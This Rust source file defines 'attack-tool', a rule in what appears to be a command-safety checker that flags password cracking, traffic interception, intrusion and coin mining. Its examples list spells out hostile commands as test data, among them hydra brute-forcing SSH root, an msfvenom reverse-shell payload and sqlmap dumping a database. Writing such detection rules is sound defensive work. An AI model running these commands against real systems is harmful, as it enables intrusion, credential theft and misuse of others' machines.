//! Tools that are made to attack.

use herm_shell::Verb;

use crate::facts::Facts;
use crate::finding::Stance;
use crate::rules::named::{kind, of_kind};
use crate::rules::rule::{Layer, Report, Rule};

/// A tool that guesses passwords, listens to others, breaks into machines or mines coins.
pub static ATTACK_TOOL: Rule = Rule {
    name: "attack-tool",
    title: "run an attack tool",
    layer: Layer::Command,
    stance: Stance::Ask,
    finds: "A tool that guesses or cracks passwords, takes part in other people's traffic, breaks into machines, or mines coins.",
    matters: "It is aimed at machines and accounts of somebody, who may take it for an attack; a miner uses up this one.",
    instead: "Say what is to be tested and who has agreed to it, and let a person start it.",
    suggestion: "",
    examples: &[
        "hydra -l root -P words.txt ssh://10.0.0.5",
        "john --wordlist=words.txt hashes.txt",
        "sudo bettercap -iface eth0",
        "msfvenom -p linux/x64/shell_reverse_tcp LHOST=10.0.0.1 -f elf -o x",
        "nohup ./xmrig -o pool.example:4444 -u wallet &",
        "sqlmap -u http://shop.example/?id=1 --dump",
    ],
    near_misses: &[
        "grep -rn hydra docs/",
        "xmrig --version",
        "nmap -p 8080 localhost",
        "pip install john",
        "openssl passwd -6 secret",
    ],
    judge,
};

const KINDS: &[&str] = &["computing time", "machines", "passwords", "traffic"];

fn judge(facts: &Facts, report: &mut Report<'_>) {
    for (effect, _) in of_kind(facts, Verb::Escalate, KINDS) {
        let what = match kind(effect) {
            "passwords" => "guesses or cracks passwords",
            "traffic" => "takes part in other people's traffic",
            "computing time" => "mines coins with this machine",
            _ => "attacks machines or looks for ways into them",
        };
        report.effect(effect, format!("`{}` {what}", effect.by));
    }
}
